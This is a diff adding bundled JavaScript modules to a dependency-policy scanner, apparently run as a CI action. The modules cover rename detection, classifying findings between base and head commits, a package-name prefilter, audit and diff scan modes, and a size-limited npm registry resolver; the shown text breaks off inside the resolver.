@@ -58306,6 +58306,332 @@ function joinHashes(files) {
 
 /***/ }),
 
+/***/ 5119:
+/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
+
+
+// EXPORTS
+__nccwpck_require__.d(__webpack_exports__, {
+  ZY: () => (/* binding */ classifyFindings),
+  MU: () => (/* binding */ diffInventory),
+  AZ: () => (/* binding */ findingIdentity)
+});
+
+// EXTERNAL MODULE: external "node:crypto"
+var external_node_crypto_ = __nccwpck_require__(77598);
+// EXTERNAL MODULE: ./src/inventory/engine.ts + 4 modules
+var engine = __nccwpck_require__(1722);
+// EXTERNAL MODULE: ./src/inventory/flows.ts
+var flows = __nccwpck_require__(67037);
+;// CONCATENATED MODULE: ./src/diff/renames.ts
+// Renames between base and head: which head path a base file moved to, so that a move keeps its
+// findings' identity (a move introduces nothing).
+
+function hasBlobIds(s) {
+    return typeof s.blobId === 'function';
+}
+/**
+ * Adds the exact moves the known renames do not cover: a changed head file (of `headPaths`: the
+ * ones whose pairing can matter) whose content is the content a base file of `basePaths` had,
+ * where that base file is gone or changed at head.
+ * GitHub's pull-request file list calls two swapped files "modified" (it does not break rewrites
+ * as `git diff -B` does), and git does not break two similar files; their contents still pair
+ * them. Content is named by blob id where both sources have them, else by a hash of the bytes
+ * (at most `maxBytes`; a file that cannot be read pairs nothing). Each path pairs once.
+ */
+async function withExactRenames(base, head, headPaths, basePaths, known, maxBytes) {
+    const out = new Map(known);
+    const wanted = [...new Set(headPaths)].filter((p) => !out.has(p)).sort();
+    if (wanted.length === 0)
+        return out;
+    const useIds = hasBlobIds(base) && hasBlobIds(head);
+    const id = async (s, p) => {
+        try {
+            if (useIds) {
+                const v = await s.blobId(p);
+                // A link that cannot be followed is not content.
+                return v === null || v.startsWith('link:') ? null : v;
+            }
+            const bytes = await s.read(p, maxBytes);
+            return bytes === null ? null : (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
+        }
+        catch {
+            return null;
+        }
+    };
+    const takenFrom = new Set(known.values());
+    const headIds = new Map();
+    for (const p of wanted) {
+        const h = await id(head, p);
+        // A file whose content is what it was at base did not move here.
+        if (h !== null && (await id(base, p)) !== h)
+            headIds.set(p, h);
+    }
+    const wantedIds = new Set(headIds.values());
+    const baseIds = new Map();
+    for (const q of [...new Set(basePaths)].sort()) {
+        if (takenFrom.has(q))
+            continue;
+        const b = await id(base, q);
+        // A base file still there unchanged did not move (a copy is not a move).
+        if (b === null || !wantedIds.has(b) || (await id(head, q)) === b)
+            continue;
+        const list = baseIds.get(b);
+        if (list)
+            list.push(q);
+        else
+            baseIds.set(b, [q]);
+    }
+    for (const [p, h] of headIds) {
+        const from = baseIds.get(h)?.find((q) => q !== p && !takenFrom.has(q));
+        if (from === undefined)
+            continue;
+        out.set(p, from);
+        takenFrom.add(from);
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/diff/diff.ts
+// Diff mode: which findings a change introduces, keeps or removes, and which files it changes.
+
+
+
+
+/**
+ * The identity of a finding across commits: rule, carrier, version (or the spec written when the
+ * version is unknown) and file — never the line, so moving an entry is not introducing it. `file`
+ * overrides the finding's own (a head file's path at base, when the change moved it).
+ */
+function findingIdentity(f, file = f.location.file) {
+    const c = f.component;
+    return [f.ruleId, c.ecosystem, c.name, c.version === null ? `spec:${c.spec ?? ''}` : c.version, file].join('\u0000');
+}
+/**
+ * Marks each head finding `introduced` (no finding of the same identity at base) or `unchanged`,
+ * and adds each base finding with no counterpart at head as `removed`. Identities are counted, so
+ * a second copy of an existing finding in the same file is introduced. A head finding in a file
+ * the change moved (`renames`: head path → base path) is compared with the findings of the file's
+ * base path, and says where it moved from (`movedFrom`).
+ */
+function classifyFindings(base, head, renames = new Map()) {
+    const remaining = new Map();
+    for (const f of base) {
+        const k = findingIdentity(f);
+        const list = remaining.get(k);
+        if (list)
+            list.push(f);
+        else
+            remaining.set(k, [f]);
+    }
+    const out = [];
+    for (const f of head) {
+        const from = renames.get(f.location.file);
+        const list = remaining.get(findingIdentity(f, from));
+        const status = list && list.length > 0 ? 'unchanged' : 'introduced';
+        if (list && list.length > 0)
+            list.shift();
+        out.push({ ...f, status, ...(from !== undefined ? { movedFrom: from } : {}) });
+    }
+    for (const f of base) {
+        const list = remaining.get(findingIdentity(f));
+        if (list && list.includes(f))
+            out.push({ ...f, status: 'removed' });
+    }
+    return out;
+}
+/**
+ * Detects components at head and at base, parsing each unchanged file once: a detector file is
+ * re-detected at base only when it changed or when a file it read (`DetectInput.readFile`) did.
+ * Reading the same inputs, a detector reads the same files, so the reads recorded at head are the
+ * reads it made at base for every file taken as unchanged.
+ */
+async function diffInventory(base, head, options = {}) {
+    const { changed: hint, nameFilter, parseEveryFile, renames: knownRenames, ...inventoryOptions } = options;
+    const maxBytes = options.limits?.maxFileBytes ?? 64 * 1024 * 1024;
+    const memo = new Map();
+    const isChanged = (path) => {
+        let p = memo.get(path);
+        if (!p) {
+            p = hint ? Promise.resolve(hint.has(path)) : contentDiffers(base, head, path, maxBytes);
+            memo.set(path, p);
+        }
+        return p;
+    };
+    // The text test first (one search of text already in memory), then whether the file changed:
+    // a changed file is always parsed, so that its errors fail the gate.
+    const namesCovered = (detector, text) => !nameFilter || !detector.namesInText || nameFilter.textMayName(text, detector.namesInText);
+    const headInv = await (0,engine/* inventory */.pf)(head, {
+        ...inventoryOptions,
+        ...(nameFilter && !parseEveryFile
+            ? {
+                shouldParse: async (path, detector, text) => namesCovered(detector, text) || (await isChanged(path)),
+            }
+            : {}),
+    });
+    // A file read through readFile may be one the change list does not cover (an ignored `.env`
+    // on disk in the CLI's work tree): it is compared directly as well.
+    const readMemo = new Map();
+    const isReadChanged = (path) => {
+        let p = readMemo.get(path);
+        if (!p) {
+            p = isChanged(path).then((c) => c || (hint ? contentDiffers(base, head, path, maxBytes) : false));
+            readMemo.set(path, p);
+        }
+        return p;
+    };
+    // The change list names paths as git sees them: a symlink whose target changed is not on it,
+    // nor is anything else git does not track as that path. A file it calls unchanged that holds
+    // a component the policy may match, or an error, is confirmed by its content (few files do).
+    const mayMatter = (r) => r.errors.length > 0 || r.components.some((c) => !nameFilter || nameFilter.mayMatch(c.ecosystem, c.name));
+    const dirty = new Set();
+    for (const [path, result] of headInv.byFile) {
+        if (await isChanged(path)) {
+            dirty.add(path);
+            continue;
+        }
+        if (hint && mayMatter(result) && (await contentDiffers(base, head, path, maxBytes, true))) {
+            dirty.add(path);
+            continue;
+        }
+        for (const read of result.reads) {
+            if (await isReadChanged(read)) {
+                dirty.add(path);
+                break;
+            }
+        }
+    }
+    // Detector files present at base only (deleted or renamed away): scanned at base.
+    const headFiles = new Set(headInv.files);
+    const detectorList = options.detectors;
+    const baseOnly = [];
+    const candidates = hint ? [...hint] : await base.list();
+    for (const path of candidates) {
+        if (headFiles.has(path))
+            continue;
+        if ((0,engine/* detectorsFor */.J9)(path, detectorList).length === 0)
+            continue;
+        baseOnly.push(path);
+    }
+    // Exact moves the change list does not pair, among the changed files whose pairing can matter:
+    // the ones holding a component the policy may match, or an error.
+    const pairable = new Set();
+    for (const [path, result] of headInv.byFile) {
+        if (result.errors.length > 0)
+            pairable.add(path);
+        for (const c of result.components)
+            if (!nameFilter || nameFilter.mayMatch(c.ecosystem, c.name))
+                pairable.add(c.location.file);
+    }
+    const changedPairable = [];
+    for (const p of pairable)
+        if (dirty.has(p) || (await isChanged(p)))
+            changedPairable.push(p);
+    const renames = await withExactRenames(base, head, changedPairable, hint ?? [...dirty, ...baseOnly], knownRenames ?? new Map(), maxBytes);
+    // A moved file that cannot be parsed is compared with its base path's errors, so that path is
+    // parsed at base whatever its text names.
+    const movedWithErrors = new Set();
+    for (const [path, result] of headInv.byFile) {
+        const from = renames.get(path);
+        if (from !== undefined && result.errors.length > 0)
+            movedWithErrors.add(from);
+    }
+    const toScanAtBase = [...new Set([...dirty, ...baseOnly])].sort();
+    // At base, a file that names nothing the policy covers holds no finding to compare with: its
+    // head side's findings (if any) are introduced either way.
+    const baseInv = await (0,engine/* inventory */.pf)(restrictedSource(base, toScanAtBase), {
+        ...inventoryOptions,
+        ...(nameFilter
+            ? {
+                shouldParse: (path, d, text) => namesCovered(d, text) || movedWithErrors.has(path),
+            }
+            : {}),
+    });
+    const errorKey = (file, e) => `${file}\u0000${e.line ?? 0}\u0000${e.message}`;
+    const baseErrorKeys = new Set(baseInv.errors.map((e) => errorKey(e.file, e)));
+    const baseComponents = [...baseInv.components];
+    // An unchanged file is judged on its own at base only when nothing built or ran it there: a
+    // caller added or removed by the change moves its findings between it and the caller.
+    const atBase = new Map();
+    for (const [path, result] of headInv.byFile)
+        if (!dirty.has(path))
+            atBase.set(path, result);
+    for (const [path, result] of baseInv.byFile)
+        atBase.set(path, result);
+    const droppedAtBase = (0,flows/* judgedByCallers */.lj)(atBase);
+    for (const [path, result] of headInv.byFile) {
+        if (dirty.has(path))
+            continue;
+        for (const c of (0,flows/* componentsWhere */.Qp)(result, droppedAtBase.has(path)))
+            baseComponents.push(c);
+    }
+    const headErrors = [];
+    for (const [path, result] of headInv.byFile) {
+        // A file moved with the same error it had at its base path: the error is not new.
+        const from = renames.get(path);
+        for (const e of result.errors) {
+            const fresh = dirty.has(path) && (from === undefined || !baseErrorKeys.has(errorKey(from, e)));
+            headErrors.push({ ...e, status: fresh ? 'introduced' : 'unchanged' });
+        }
+    }
+    return {
+        head: headInv,
+        baseComponents,
+        baseErrors: baseInv.errors,
+        headErrors: sortErrors(headErrors),
+        dirty: [...dirty].sort(),
+        baseFilesScanned: baseInv.filesScanned,
+        notParsed: headInv.notParsed,
+        renames,
+    };
+}
+function sortErrors(errors) {
+    return errors.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : 0) ||
+        (a.line ?? 0) - (b.line ?? 0) ||
+        (a.message < b.message ? -1 : a.message > b.message ? 1 : 0));
+}
+/** A view of a source that lists only the given paths (which may not exist in it). */
+function restrictedSource(source, paths) {
+    return {
+        description: source.description,
+        list: () => Promise.resolve(paths),
+        read: (path, maxBytes) => source.read(path, maxBytes),
+    };
+}
+/**
+ * Whether a path differs between the trees: by blob id when both sources have them, else by a
+ * hash of the bytes. A path that cannot be read on a side (a symlink out of the tree, too large)
+ * counts by its error, so the same unreadable file on both sides is unchanged (it warns) while a
+ * newly unreadable one is changed (it fails closed).
+ */
+async function contentDiffers(base, head, path, maxBytes, 
+/** Only bytes count: a side that cannot be read leaves the path as the change list has it. */
+readableOnly = false) {
+    const useIds = hasBlobIds(base) && hasBlobIds(head);
+    const [a, b] = await Promise.all([
+        fingerprint(base, path, maxBytes, useIds),
+        fingerprint(head, path, maxBytes, useIds),
+    ]);
+    // The same dangling link reads as "points outside" in git and "does not exist" on disk.
+    if (readableOnly && (a.startsWith('error:') || b.startsWith('error:')))
+        return false;
+    return a !== b;
+}
+async function fingerprint(source, path, maxBytes, useIds) {
+    try {
+        if (useIds)
+            return `id:${(await source.blobId(path)) ?? 'absent'}`;
+        const bytes = await source.read(path, maxBytes);
+        return bytes === null ? 'absent' : `sha256:${(0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex')}`;
+    }
+    catch (e) {
+        return `error:${e instanceof Error ? e.message : String(e)}`;
+    }
+}
+
+
+/***/ }),
+
 /***/ 26229:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
@@ -58364,6 +58690,170 @@ function gateFails(report, failOn, gatingErrors = gateErrors(report, failOn)) {
     if (failOn === 'never')
         return false;
     return gateFindings(report, failOn).length > 0 || gatingErrors.length > 0;
+}
+
+
+/***/ }),
+
+/***/ 46458:
+/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   Eq: () => (/* binding */ resolveRelevant),
+/* harmony export */   LS: () => (/* binding */ diffScan),
+/* harmony export */   sb: () => (/* binding */ audit)
+/* harmony export */ });
+/* unused harmony export inventoryReport */
+/* harmony import */ var _catalog_index_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(15799);
+/* harmony import */ var _diff_diff_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(5119);
+/* harmony import */ var _inventory_engine_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(1722);
+/* harmony import */ var _model_limits_js__WEBPACK_IMPORTED_MODULE_3__ = __nccwpck_require__(10817);
+/* harmony import */ var _policy_evaluate_js__WEBPACK_IMPORTED_MODULE_4__ = __nccwpck_require__(84813);
+/* harmony import */ var _policy_names_js__WEBPACK_IMPORTED_MODULE_7__ = __nccwpck_require__(25714);
+/* harmony import */ var _policy_relevance_js__WEBPACK_IMPORTED_MODULE_6__ = __nccwpck_require__(27245);
+/* harmony import */ var _report_js__WEBPACK_IMPORTED_MODULE_8__ = __nccwpck_require__(26229);
+/* harmony import */ var _inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__ = __nccwpck_require__(59268);
+
+
+
+
+
+
+
+
+
+/**
+ * Runs the resolver over the components some rule could match by name, and passes the others
+ * through: a look-up for a package no rule names can change no verdict, and would only cost time
+ * (and fail closed on a private package the policy does not care about).
+ */
+async function resolveRelevant(resolve, components, errors, filter) {
+    const relevant = [];
+    components.forEach((c, i) => {
+        if (filter.mayMatch(c.ecosystem, c.name))
+            relevant.push(i);
+    });
+    if (relevant.length === 0)
+        return components;
+    const resolved = await resolve(relevant.map((i) => components[i]), errors);
+    const out = [...components];
+    relevant.forEach((i, k) => (out[i] = resolved[k]));
+    return out;
+}
+/**
+ * Audit mode: every component of one tree judged against the policy. The tree is streamed file by
+ * file (`inventoryEach`), manifests first: a lockfile's components are judged as they come and let
+ * go, and of the lockfiles only the versions of names some manifest declares are remembered, to
+ * reconcile the manifests' entries at the end (`reconcileManifests`). The report is the one the
+ * whole inventory, reconciled and judged at once, gives (tested over every fixture): the findings
+ * in component order, the same count, the same errors.
+ */
+async function audit(source, options) {
+    const filter = (0,_policy_relevance_js__WEBPACK_IMPORTED_MODULE_6__/* .nameFilter */ .I)(options.policy, _catalog_index_js__WEBPACK_IMPORTED_MODULE_0__/* .catalog */ .U$);
+    const evaluator = (0,_policy_evaluate_js__WEBPACK_IMPORTED_MODULE_4__/* .createEvaluator */ .m$)(options.policy, {
+        catalog: _catalog_index_js__WEBPACK_IMPORTED_MODULE_0__/* .catalog */ .U$,
+        ...(options.now ? { now: options.now } : {}),
+        ...(options.pathPrefix ? { pathPrefix: options.pathPrefix } : {}),
+    });
+    const resolverErrors = [];
+    const resolve = options.resolve;
+    // Findings by where their component sits in the whole inventory: its file, its place there.
+    const judged = [];
+    let count = 0;
+    const judge = async (entries) => {
+        let components = entries.map((e) => e.c);
+        if (resolve)
+            components = await resolveRelevant(resolve, components, resolverErrors, filter);
+        components.forEach((c, k) => {
+            const findings = evaluator.judge(c);
+            if (findings.length > 0)
+                judged.push({ file: entries[k].file, index: entries[k].index, findings });
+        });
+        count += components.length;
+    };
+    // Manifest entries wait for every lockfile; their names are what the lockfiles must remember.
+    // Manifest files are handed over first, so every such name is known before any lockfile entry.
+    const manifests = [];
+    const manifestNames = new Map();
+    const locked = new _inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__/* .LockedVersions */ .oi(manifestNames);
+    const totals = await (0,_inventory_engine_js__WEBPACK_IMPORTED_MODULE_2__/* .inventoryEach */ .U2)(source, { limits: options.limits ?? _model_limits_js__WEBPACK_IMPORTED_MODULE_3__/* .defaultLimits */ .MK, first: _inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__/* .isManifestPath */ .HS }, async (file, list) => {
+        const now = [];
+        list.forEach((c, index) => {
+            if ((0,_inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__/* .isManifestEntry */ .SY)(c)) {
+                manifests.push({ file, c, index });
+                const name = (0,_policy_names_js__WEBPACK_IMPORTED_MODULE_7__/* .normalizeName */ .Pc)(c.ecosystem, c.name);
+                manifestNames.set((0,_inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__/* .wantedKey */ .tY)(c.ecosystem, name), name);
+            }
+            else {
+                locked.note(c);
+                now.push({ file, c, index });
+            }
+        });
+        if (now.length > 0)
+            await judge(now);
+    });
+    // One resolver call for every manifest entry left: their look-ups run concurrently.
+    await judge(manifests.filter((m) => !locked.pins(m.c)));
+    judged.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : a.index - b.index));
+    return (0,_report_js__WEBPACK_IMPORTED_MODULE_8__/* .buildReport */ .FK)({
+        mode: 'audit',
+        findings: judged.flatMap((j) => j.findings),
+        errors: [...totals.errors, ...resolverErrors],
+        notices: evaluator.notices(),
+        filesScanned: totals.filesScanned,
+        components: count,
+        policySources: options.policy.sources,
+        ...(options.policyName ? { policyName: options.policyName } : {}),
+    });
+}
+/**
+ * Diff mode: the findings at head, each `introduced` or `unchanged` against base, plus the base
+ * findings that are gone (`removed`). One policy (the base's) judges both sides.
+ */
+async function diffScan(base, head, options) {
+    const limits = options.limits ?? _model_limits_js__WEBPACK_IMPORTED_MODULE_3__/* .defaultLimits */ .MK;
+    const filter = (0,_policy_relevance_js__WEBPACK_IMPORTED_MODULE_6__/* .nameFilter */ .I)(options.policy, _catalog_index_js__WEBPACK_IMPORTED_MODULE_0__/* .catalog */ .U$);
+    const d = await (0,_diff_diff_js__WEBPACK_IMPORTED_MODULE_1__/* .diffInventory */ .MU)(base, head, {
+        limits,
+        nameFilter: filter,
+        ...(options.failOn === 'any' ? { parseEveryFile: true } : {}),
+        ...(options.changed ? { changed: options.changed } : {}),
+        ...(options.renames ? { renames: options.renames } : {}),
+        ...(options.detectors ? { detectors: options.detectors } : {}),
+    });
+    let headComponents = (0,_inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__/* .reconcileManifests */ .fU)(d.head.components);
+    let baseComponents = (0,_inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__/* .reconcileManifests */ .fU)(d.baseComponents);
+    if (options.resolve) {
+        headComponents = await resolveRelevant(options.resolve, headComponents, d.head.errors, filter);
+        baseComponents = await resolveRelevant(options.resolve, baseComponents, d.baseErrors, filter);
+    }
+    const evalOptions = {
+        catalog: _catalog_index_js__WEBPACK_IMPORTED_MODULE_0__/* .catalog */ .U$,
+        ...(options.now ? { now: options.now } : {}),
+        ...(options.pathPrefix ? { pathPrefix: options.pathPrefix } : {}),
+    };
+    const atHead = (0,_policy_evaluate_js__WEBPACK_IMPORTED_MODULE_4__/* .evaluate */ ._3)(headComponents, options.policy, evalOptions);
+    const atBase = (0,_policy_evaluate_js__WEBPACK_IMPORTED_MODULE_4__/* .evaluate */ ._3)(baseComponents, options.policy, evalOptions);
+    return (0,_report_js__WEBPACK_IMPORTED_MODULE_8__/* .buildReport */ .FK)({
+        mode: 'diff',
+        findings: (0,_diff_diff_js__WEBPACK_IMPORTED_MODULE_1__/* .classifyFindings */ .ZY)(atBase.findings, atHead.findings, d.renames),
+        errors: d.headErrors,
+        notices: [...(options.notices ?? []), ...atHead.notices],
+        diff: { base: base.description, head: head.description, baseErrors: d.baseErrors },
+        filesScanned: d.head.filesScanned,
+        components: headComponents.length,
+        unchangedNotParsed: d.notParsed,
+        policySources: options.policy.sources,
+        ...(options.policyName ? { policyName: options.policyName } : {}),
+    });
+}
+function inventoryReport(inv) {
+    return {
+        schemaVersion: 1,
+        components: inv.components,
+        errors: inv.errors,
+        summary: { filesScanned: inv.filesScanned, components: inv.components.length },
+    };
 }
 
 
@@ -61307,6 +61797,175 @@ function rootRef(ref, baseDir) {
 
 /***/ }),
 
+/***/ 27245:
+/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   I: () => (/* binding */ nameFilter)
+/* harmony export */ });
+/* unused harmony export nameFragment */
+/* harmony import */ var _names_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(25714);
+/* harmony import */ var _model_ecosystems_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(27184);
+
+
+const NON_ASCII = /[^\x00-\x7f]/;
+/** Fragments shorter than this are not worth searching for: every lockfile holds them. */
+const MIN_FRAGMENT = 3;
+/**
+ * The longest literal fragment of a normalised name or glob that any name it matches contains,
+ * in every spelling a lockfile may write it (so split at glob characters, at `/` and `@`, which a
+ * URL may %-escape, and at `-`, `_` and `.`, which PEP 503 treats as one); null when no fragment
+ * is long enough to narrow anything, or the name is not ASCII.
+ */
+function nameFragment(pattern) {
+    // Letter case of non-ASCII letters does not round-trip (İ lowercases to two characters).
+    if (NON_ASCII.test(pattern))
+        return null;
+    let best = '';
+    for (const f of pattern.toLowerCase().split(/[*?/@\-_.]+/))
+        if (f.length > best.length)
+            best = f;
+    return best.length >= MIN_FRAGMENT ? best : null;
+}
+/**
+ * The `%XX` escapes a URL-decoding parser could turn into part of one of these fragments: the
+ * escape of any character a fragment holds (either letter case), or of any non-ASCII byte (a
+ * UTF-8 sequence may decode to a letter that lowercases into one, as the Kelvin sign does).
+ */
+function percentEscapesOf(fragments) {
+    const codes = new Set();
+    for (const f of fragments) {
+        for (const ch of f + f.toUpperCase()) {
+            codes.add(ch.charCodeAt(0).toString(16).padStart(2, '0'));
+        }
+    }
+    return new RegExp(`%(?:[89a-f][0-9a-f]|${[...codes].sort().join('|')})`, 'i');
+}
+function nameFilter(policy, catalog) {
+    const byEcosystem = new Map();
+    let allEcosystems = false;
+    const entry = (e) => {
+        let n = byEcosystem.get(e);
+        if (!n)
+            byEcosystem.set(e, (n = { all: false, exact: new Set(), globs: [] }));
+        return n;
+    };
+    const addName = (e, name) => {
+        const n = entry(e);
+        const normal = (0,_names_js__WEBPACK_IMPORTED_MODULE_0__/* .normalizeName */ .Pc)(e, name);
+        if (normal.includes('*') || normal.includes('?'))
+            n.globs.push(normal);
+        else
+            n.exact.add(normal);
+    };
+    for (const rule of policy.rules) {
+        if (rule.tool !== undefined) {
+            // An unknown tool matches nothing (evaluate skips it the same way).
+            for (const carrier of catalog.tool(rule.tool)?.carriers ?? [])
+                addName(carrier.ecosystem, carrier.package);
+        }
+        else if (rule.package === undefined) {
+            if (rule.ecosystem === undefined)
+                allEcosystems = true;
+            else
+                entry(rule.ecosystem).all = true;
+        }
+        else if (rule.ecosystem === undefined) {
+            // The policy parser requires an ecosystem with a package; a rule built otherwise covers all.
+            for (const e of _model_ecosystems_js__WEBPACK_IMPORTED_MODULE_1__/* .ECOSYSTEMS */ .S)
+                addName(e, rule.package);
+        }
+        else {
+            addName(rule.ecosystem, rule.package);
+        }
+    }
+    // Per ecosystem, the lowercase fragments to look for; null: the text cannot be narrowed.
+    const fragments = new Map();
+    for (const [e, n] of byEcosystem) {
+        if (n.all) {
+            fragments.set(e, null);
+            continue;
+        }
+        const list = [];
+        let unbounded = false;
+        for (const p of [...n.exact, ...n.globs]) {
+            const f = nameFragment(p);
+            if (f === null)
+                unbounded = true;
+            else
+                list.push(f);
+        }
+        fragments.set(e, unbounded ? null : list);
+    }
+    const searchers = new Map();
+    const searcherFor = (ecosystems) => {
+        if (allEcosystems)
+            return null;
+        const key = [...ecosystems].sort().join(',');
+        if (searchers.has(key))
+            return searchers.get(key) ?? null;
+        const all = new Set();
+        for (const e of ecosystems) {
+            const f = fragments.get(e);
+            if (f === null) {
+                searchers.set(key, null);
+                return null;
+            }
+            for (const x of f ?? [])
+                all.add(x);
+        }
+        if (all.size === 0)
+            return 'none';
+        // A fragment that contains another is implied by it: keep the shorter one only.
+        const kept = [...all].filter((f) => ![...all].some((g) => g !== f && f.includes(g)));
+        const searcher = {
+            names: new RegExp(kept.map(escapeRegExp).join('|'), 'iu'),
+            escapes: percentEscapesOf(kept),
+        };
+        searchers.set(key, searcher);
+        return searcher;
+    };
+    return {
+        mayMatch(ecosystem, name) {
+            if (allEcosystems)
+                return true;
+            const n = byEcosystem.get(ecosystem);
+            if (!n)
+                return false;
+            if (n.all)
+                return true;
+            const normal = (0,_names_js__WEBPACK_IMPORTED_MODULE_0__/* .normalizeName */ .Pc)(ecosystem, name);
+            return n.exact.has(normal) || n.globs.some((g) => (0,_names_js__WEBPACK_IMPORTED_MODULE_0__/* .globMatches */ .mw)(g, normal));
+        },
+        textMayName(text, ecosystems) {
+            const searcher = searcherFor(ecosystems);
+            if (searcher === 'none')
+                return false;
+            if (searcher === null)
+                return true;
+            if (searcher.names.test(text) || hasEscapes(text, searcher.escapes))
+                return true;
+            // The comparison of most ecosystems lowercases names, and toLowerCase turns a few
+            // non-ASCII letters into ASCII ones (the Kelvin sign into `k`): such text is not ruled out.
+            return ecosystems.some(foldsCase) && NON_ASCII.test(text);
+        },
+    };
+}
+/** Whether an ecosystem compares names case-insensitively (lowercases them). */
+function foldsCase(e) {
+    return (0,_names_js__WEBPACK_IMPORTED_MODULE_0__/* .normalizeName */ .Pc)(e, 'A') === 'a';
+}
+/** Escapes a parser could decode into name characters that the raw text does not show. */
+function hasEscapes(text, percentEscapes) {
+    return text.includes('\\') || (text.includes('%') && percentEscapes.test(text));
+}
+function escapeRegExp(s) {
+    return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+}
+
+
+/***/ }),
+
 /***/ 50795:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
@@ -62004,6 +62663,669 @@ function renderSummary(report, ctx) {
         maxBytes: ctx.maxBytes ?? SUMMARY_MAX_BYTES,
         extraNotes: notes,
     });
+}
+
+
+/***/ }),
+
+/***/ 70007:
+/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
+
+
+// EXPORTS
+__nccwpck_require__.d(__webpack_exports__, {
+  xl: () => (/* binding */ auditResolveHook),
+  S_: () => (/* reexport */ createNpmResolver),
+  l5: () => (/* reexport */ normalizeRegistry)
+});
+
+// UNUSED EXPORTS: registryRequest
+
+// EXTERNAL MODULE: ./node_modules/npm-package-arg/lib/npa.js
+var npa = __nccwpck_require__(78056);
+var npa_default = /*#__PURE__*/__nccwpck_require__.n(npa);
+// EXTERNAL MODULE: ./node_modules/semver/index.js
+var semver = __nccwpck_require__(62088);
+var semver_default = /*#__PURE__*/__nccwpck_require__.n(semver);
+// EXTERNAL MODULE: ./src/util/purl.ts
+var purl = __nccwpck_require__(64059);
+// EXTERNAL MODULE: ./src/model/limits.ts
+var limits = __nccwpck_require__(10817);
+;// CONCATENATED MODULE: ./src/resolver/limited-agent.ts
+const RESPONSE_TOO_LARGE = 'ERESPONSETOOLARGE';
+const COUNT = Symbol('aitg.bytesThisResponse');
+/** An agent for one registry URL that refuses answers over `maxBytes` (headers included). */
+async function limitedAgent(registry, maxBytes, timeoutMs) {
+    const { Agent } = (await Promise.all(/* import() */[__nccwpck_require__.e(799), __nccwpck_require__.e(995)]).then(__nccwpck_require__.t.bind(__nccwpck_require__, 57995, 23)));
+    const { getProxy } = (await __nccwpck_require__.e(/* import() */ 799).then(__nccwpck_require__.t.bind(__nccwpck_require__, 3799, 23)));
+    class BodyLimitedAgent extends Agent {
+        async connect(request, options) {
+            const socket = (await super.connect(request, options));
+            socket[COUNT] = 0;
+            // The HTTP parser reads the socket in flowing mode already; one more listener only counts.
+            socket.on('data', (chunk) => {
+                const seen = (socket[COUNT] ?? 0) + chunk.length;
+                socket[COUNT] = seen;
+                if (seen > maxBytes) {
+                    socket.destroy(Object.assign(new Error(`response over the limit of ${maxBytes} bytes`), {
+                        code: RESPONSE_TOO_LARGE,
+                    }));
+                }
+            });
+            return socket;
+        }
+        addRequest(request, options) {
+            // A kept-alive socket starts each response at zero.
+            request.once('socket', (s) => {
+                s[COUNT] = 0;
+            });
+            super.addRequest(request, options);
+        }
+    }
+    return new BodyLimitedAgent({ timeout: timeoutMs, proxy: getProxy(registry, {}) ?? undefined });
+}
+
+;// CONCATENATED MODULE: ./src/resolver/manifest.ts
+// The manifest an install of a registry spec would pick, with npm's own pieces for exactly this:
+// npm-registry-fetch fetches the packument (auth, proxies and headers as npm sends them) and
+// npm-pick-manifest picks the version (dist-tags, ranges, the `latest` preference). No tarball is
+// ever fetched, nothing is written to disk, no script can run.
+
+/** The abbreviated ("corgi") packument, with the full document as npm's fallback. */
+const CORGI_DOC = 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*';
+const FULL_DOC = 'application/json';
+// Loaded on the first look-up only: runs that never ask a registry do not pay for them.
+let modules = null;
+const load = () => (modules ??= Promise.all([Promise.all(/* import() */[__nccwpck_require__.e(799), __nccwpck_require__.e(706)]).then(__nccwpck_require__.t.bind(__nccwpck_require__, 5706, 23)), __nccwpck_require__.e(/* import() */ 937).then(__nccwpck_require__.t.bind(__nccwpck_require__, 81937, 23))]).then(([f, p]) => ({
+    fetch: f.default,
+    pick: p.default,
+})));
+/**
+ * The version `spec` (`name@tag-or-range`) resolves to. Throws what npm throws: `E404`/`E401`/…
+ * with `statusCode` for HTTP errors, `ETARGET` when no version matches, `type: 'invalid-json'`.
+ */
+async function pickedVersion(spec, options) {
+    const { fetch, pick } = await load();
+    const parsed = npa_default()(spec);
+    const name = parsed.name ?? '';
+    const url = `${options.registry.replace(/\/+$/, '')}/${parsed.escapedName ?? ''}`;
+    const get = async (accept) => {
+        const res = await fetch(url, {
+            ...options.fetchOptions,
+            registry: options.registry,
+            spec: parsed,
+            headers: { accept },
+            integrity: null,
+        });
+        return res.json();
+    };
+    const key = `${name}\0${url}`;
+    let packument = options.packumentCache.get(key);
+    if (!packument) {
+        // A registry that does not serve abbreviated documents answers 404 to them: ask for the full one.
+        packument = get(CORGI_DOC).catch((e) => {
+            if (e.code === 'E404')
+                return get(FULL_DOC);
+            throw e;
+        });
+        options.packumentCache.set(key, packument);
